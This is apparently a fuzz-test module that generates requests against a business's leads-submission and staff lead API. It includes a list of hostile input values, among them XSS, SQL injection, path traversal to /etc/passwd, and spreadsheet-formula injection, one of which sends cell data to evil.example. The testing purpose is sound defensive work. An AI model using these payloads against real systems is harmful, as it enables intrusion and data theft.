/**
 * The leads campaign's requests (leads.mjs sends them): valid leads of each kind, and seeded
 * random requests to POST /api/leads and the staff lead API. Valid leads with fields spoiled by
 * hostile values, as JSON, urlencoded and multipart; junk bodies and content types; the staff
 * endpoints without a key, with wrong keys and with hostile query strings. Every request comes
 * from its own client address (the limit is per client).
 */
import { STAFF_KEY, staffHeaders } from './http.mjs';

export const KINDS = ['quote', 'walkthrough', 'franchising'];

/** A valid lead of a kind, the form token already in it. */
export function validLead(kind, token, n) {
  const lead = {
    kind,
    name: `Campaign Visitor ${n}`,
    company: `Campaign Company ${n}`,
    email: `campaign.lead.${n}@example.com`,
    phone: '(352) 555-0142',
    facility_type: 'business-offices',
    services: ['janitorial-services'],
    square_footage: '5k-15k',
    location: 'Ocala, FL',
    message: 'Evening cleaning for two floors.',
    contact_method: 'email',
    consent_text: 'By submitting this form, you agree that we may contact you about your request by the method you chose. We never sell or share your details.',
    page: '/contact',
    landing_page: '/',
    referrer: '',
    form_token: token,
  };
  if (kind === 'walkthrough') Object.assign(lead, { preferred_day_1: '2031-03-04', preferred_day_2: '2031-03-05', time_window: 'morning' });
  else lead.frequency = 'weekly';
  return lead;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE leads; --",
  "' OR 1=1 --",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  'Eve\r\nBcc: victim@example.com',
  'a\u0000b',
  '\u202Eevil\u202C',
  '\ud800',
  '😀'.repeat(40),
  'x'.repeat(3000),
  'x'.repeat(70_000),
  '',
  ' ',
  null,
  0,
  -1,
  true,
  [],
  ['a', 'b'],
  {},
  { $gt: '' },
  '__proto__',
  '%00',
  '../../etc/passwd',
  '2031-02-30',
];

const FIELDS = [
  'kind',
  'name',
  'company',
  'email',
  'phone',
  'facility_type',
  'services',
  'square_footage',
  'frequency',
  'location',
  'message',
  'contact_method',
  'consent_text',
  'page',
  'landing_page',
  'referrer',
  'utm_source',
  'gclid',
  'preferred_day_1',
  'preferred_day_2',
  'time_window',
  'website',
  'form_token',
  'cf-turnstile-response',
  'status',
  'id',
  'spam_reason',
  'duplicate_count',
];

let clientSerial = 0;
/** A fresh client address for each request: IPv4 from 100.64.0.0/10, now and then IPv6. */
function freshIp(rng) {
  const n = clientSerial++;
  return rng.chance(0.15)
    ? `2001:db8:${(n >> 8).toString(16)}:${(n & 0xff).toString(16)}::${rng.int(0xffff).toString(16)}`
    : `100.${64 + ((n >> 16) & 63)}.${(n >> 8) & 255}.${n & 255}`;
}

/** encodeURIComponent, except that a lone surrogate (which it refuses) goes out as the bytes of one. */
function encode(value) {
  try {
    return encodeURIComponent(value);
  } catch {
    return `${encodeURIComponent(value.replace(/[\ud800-\udfff]/g, ''))}%ED%A0%80`;
  }
}

function formEncode(fields) {
  const params = new URLSearchParams();
  for (const [k, v] of Object.entries(fields)) {
    if (Array.isArray(v)) for (const x of v) params.append(k, String(x));
    else if (v !== undefined) params.append(k, typeof v === 'object' && v !== null ? JSON.stringify(v) : String(v));
  }
  return params.toString();
}

function multipart(fields) {
  const boundary = '----campaign-boundary-7MA4YWxkTrZu0gW';
  const parts = Object.entries(fields).flatMap(([k, v]) =>
    (Array.isArray(v) ? v : [v]).map(
      (x) => `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${typeof x === 'object' && x !== null ? JSON.stringify(x) : String(x)}\r\n`,
    ),
  );
  return { body: `${parts.join('')}--${boundary}--\r\n`, type: `multipart/form-data; boundary=${boundary}` };
}

/** One fuzz request: { kind, method, path, headers, body }. */
export function fuzzCase(rng, token) {
  const roll = rng.next();
  const headers = { 'cf-connecting-ip': freshIp(rng) };
  if (roll < 0.6) {
    // A lead with one to three fields spoiled (or removed, or added).
    const lead = validLead(rng.pick(KINDS), token, `fuzz-${clientSerial}`);
    for (let i = 0, n = 1 + rng.int(3); i < n; i++) {
      const field = rng.pick(FIELDS);
      if (rng.chance(0.15)) delete lead[field];
      else lead[field] = rng.pick(HOSTILE);
    }
    const encoding = rng.pick(['json', 'json', 'json', 'form', 'form', 'multipart']);
    if (encoding === 'json') {
      // Now and then a key that would reach an object's prototype if it were merged carelessly.
      const json = JSON.stringify(lead);
      const body = rng.chance(0.05) ? `{"__proto__":{"status":"won","spam_reason":null},${json.slice(1)}` : json;
      return { kind: 'lead', method: 'POST', path: '/api/leads', headers: { ...headers, 'content-type': 'application/json' }, body };
    }
    if (encoding === 'form')
      return {
        kind: 'lead',
        method: 'POST',
        path: '/api/leads',
        headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' },
        body: formEncode(lead),
      };
    const { body, type } = multipart(lead);
    return { kind: 'lead', method: 'POST', path: '/api/leads', headers: { ...headers, 'content-type': type }, body };
  }
  if (roll < 0.8) {
    // Junk bodies and types.
    const type = rng.pick([
      'application/json',
      'application/json; charset=utf-16',
      'application/x-www-form-urlencoded',
      'multipart/form-data',
      'multipart/form-data; boundary=x',
      'text/plain',
      'application/xml',
      '',
      'application/vnd.api+json',
    ]);
    const body = rng.pick([
      () => '{"kind":',
      () => '',
      () => 'null',
      () => '[]',
      () => `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
      () => `{"kind":"quote","message":"${'x'.repeat(40_000)}"}`,
      () => Buffer.from(Array.from({ length: 512 }, () => rng.int(256))),
      () => 'kind=quote&kind=walkthrough&services=a&services[]=b&name[]=x',
      () => '%%%&&&===',
      () => '--x\r\nContent-Disposition: form-data; name="kind"\r\n\r\nquote\r\n',
      () => JSON.stringify({ kind: 'quote', services: Array.from({ length: 5000 }, () => 'floor-care') }),
    ])();
    if (type) headers['content-type'] = type;
    return { kind: 'junk', method: 'POST', path: '/api/leads', headers, body };
  }
  if (roll < 0.9) {
    // The staff endpoints, without the right key.
    const key = rng.pick([null, 'wrong-key', 'local-dev-anon-key', '', 'Bearer', `${STAFF_KEY}x`]);
    if (key !== null) headers.authorization = `Bearer ${key}`;
    const path = rng.pick([
      '/api/leads',
      '/api/leads.csv',
      '/api/leads/x',
      '/api/leads/%00',
      '/API/LEADS',
      '/api/leads/',
      '/api//leads',
      `/api/leads?status=${encode(rng.pick(HOSTILE.filter((h) => typeof h === 'string')))}`,
    ]);
    const method = rng.pick(['GET', 'GET', 'PATCH', 'DELETE', 'PUT', 'HEAD', 'OPTIONS']);
    return { kind: 'staff-refused', method, path, headers, body: method === 'PATCH' ? '{"status":"won"}' : null };
  }
  // The staff key with hostile query strings and updates: 200 or 400, never more.
  const param = rng.pick(['status', 'kind', 'from', 'to', 'limit', 'offset', 'order', 'select', 'status']);
  const raw = rng.pick(HOSTILE.filter((h) => typeof h === 'string' && h.length < 200));
  const path = rng.pick([
    `/api/leads?${param}=${encode(raw)}`,
    `/api/leads.csv?${param}=${encode(raw)}`,
    `/api/leads?limit=${rng.int(2000) - 500}&offset=${rng.int(1e10) - 10}`,
  ]);
  return { kind: 'staff', method: 'GET', path, headers: staffHeaders(), body: null };
}
